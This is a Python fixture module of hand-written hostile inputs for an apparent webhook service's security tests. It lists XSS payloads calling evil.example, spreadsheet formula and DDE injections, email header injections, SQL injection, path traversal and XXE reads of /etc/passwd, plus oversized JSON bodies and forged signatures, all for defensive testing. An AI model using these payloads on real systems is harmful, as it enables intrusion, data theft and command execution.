"""Hostile input, written by hand: texts, bodies, names and signatures that mean harm somewhere.

Each kind enters at the doors (tests/api/test_hostile_input.py, tests/collectors) and is looked for
wherever something is shown or sent (tests/app/test_hostile_texts.py). What once got through stays.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

EVIL = "evil.example"
"""The host that nothing of ours ever asks, writes to or links to."""

SCRIPTS: Mapping[str, str] = {
    "script": f"<script>alert(1);fetch('https://{EVIL}')</script>",
    "image": f"<img src=https://{EVIL}/x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "end of a script": "</script></style></textarea><svg onload=alert(1)>",
    "address": "javascript:alert(1)//",
    "markdown picture": f"![x](https://{EVIL}/p.png)",
    "markdown link": f"[pay here](https://{EVIL}/pay) [y](javascript:alert(1))",
    "escaped markdown link": f"\\[pay here](https://{EVIL}/pay) \\\\![x](https://{EVIL}/p.png)",
    "markdown html": f"**b** <a href='https://{EVIL}'>x</a> :material/lock: $x^2$",
    "template": "{{7*7}} {% for x in y %} ${7*7} #{7*7} {0.__class__.__mro__}",
    "words of a pdf": f'<para><font color="red">x</font><a href="https://{EVIL}">y</a></para>',
}
FORMULAS: Mapping[str, str] = {
    "formula": f'=HYPERLINK("https://{EVIL}","x")',
    "exchange of data": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "after a sign of separation": '","=1+1',
    "after a tab": "\t=1+1",
}
HEADERS: Mapping[str, str] = {
    "line end": f"x\r\nBcc: all@{EVIL}\r\n\r\nbody",
    "lone line end": f"x\nBcc: all@{EVIL}",
    "encoded word, quoted": f"=?utf-8?q?x=0ABcc=3Aall=40{EVIL}?=",
    "encoded word, base64": "=?utf-8?b?eApCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=",
    "encoded word, split": f"=?utf-8?q?x?= =?utf-8?q?=0D=0ABcc=3Aall=40{EVIL}?=",
    "other line ends": f"x\u2028Bcc: all@{EVIL}\u0085Bcc: b@{EVIL}",
}
SIGNS: Mapping[str, str] = {
    "direction of writing": "invoice\u202efdp.exe",
    "terminal": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "nothing to see": "a\u200b\u2060\ufeffb",
    "statement": "'; DROP TABLE document; --",
    "pattern": "(a+)+$ %_\\",
    "way out": "../../../../etc/passwd",
    "other way out": "..\\..\\windows\\win.ini",
    "long": "W" * 5_000,
}
TEXTS: Mapping[str, str] = {**SCRIPTS, **FORMULAS, **HEADERS, **SIGNS}
"""What may stand in any field of a message, in a name or in a note."""

EVENT: dict[str, Any] = {
    "specversion": "1.0",
    "id": "h1",
    "source": "/h",
    "type": "message.failed",
    "time": "2026-03-27T10:00:00Z",
    "data": {"text": "lost"},
}
BODIES: Mapping[str, bytes] = {
    **{
        name: json.dumps({**EVENT, "id": text[:200], "data": {"text": text}}).encode()
        for name, text in TEXTS.items()
    },
    "zero sign": json.dumps({**EVENT, "id": "a\0b", "data": {"text": "a\0b"}}).encode(),
    "lone surrogate": b'{"specversion":"1.0","id":"\\ud800","source":"/h","type":"message.failed"}',
    "not a number": b'{"specversion":"1.0","id":"n","source":"/h","data":{"text":NaN}}',
    "deep": b'{"data":' + b"[" * 200_000 + b"]" * 200_000 + b"}",
    "wide number": b'{"specversion":"1.0","id":' + b"9" * 50_000 + b"}",
    "many keys": b"{" + b",".join(b'"k%d":1' % n for n in range(100_000)) + b"}",
    "one key twice": b'{"specversion":"1.0","id":"a","id":"b","source":"/h","type":"x"}',
    "not text": b"\xff\xfe\x00\x01",
    "entities": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    "entities outside": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "laughs": b'<!DOCTYPE a [<!ENTITY b "xx"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    "packed": b"PK\x03\x04" + b"\0" * 60,
    "squeezed": b"\x1f\x8b\x08\x00" + b"\0" * 60,
    "half an interchange": b"ISA*00*          *00*          *ZZ*X",
    "nothing": b"",
}
"""Whole bodies, brought to every address that takes one."""

NAMES = (
    "../../etc/passwd", "..%2f..%2fetc", "....//....//etc", "a%00b", "%0d%0aSet-Cookie:x", "é",
    "%2e%2e%2fetc", "con", "a" * 3_000, SCRIPTS["script"], HEADERS["line end"],
)  # fmt: skip
"""Names in addresses and of files."""

SIGNATURES: Mapping[str, Mapping[str, str]] = {
    "none": {},
    "empty": {"webhook-signature": ""},
    "made up": {"webhook-signature": "v1," + "A" * 43 + "="},
    "other version": {"webhook-signature": "v0,x v1a,x v9,x"},
    "no base64": {"webhook-signature": "v1,<script>"},
    "line end": {"webhook-signature": "v1,x, v1,y"},
    "very many": {"webhook-signature": " ".join(["v1,AAAA"] * 500)},
    "no time": {"webhook-signature": "v1,AAAA", "webhook-timestamp": ""},
    "time of never": {"webhook-signature": "v1,AAAA", "webhook-timestamp": "9" * 30},
    "time with words": {"webhook-signature": "v1,AAAA", "webhook-timestamp": "now"},
    "negative time": {"webhook-signature": "v1,AAAA", "webhook-timestamp": "-1"},
}
"""Headers of a webhook, each without the secret."""
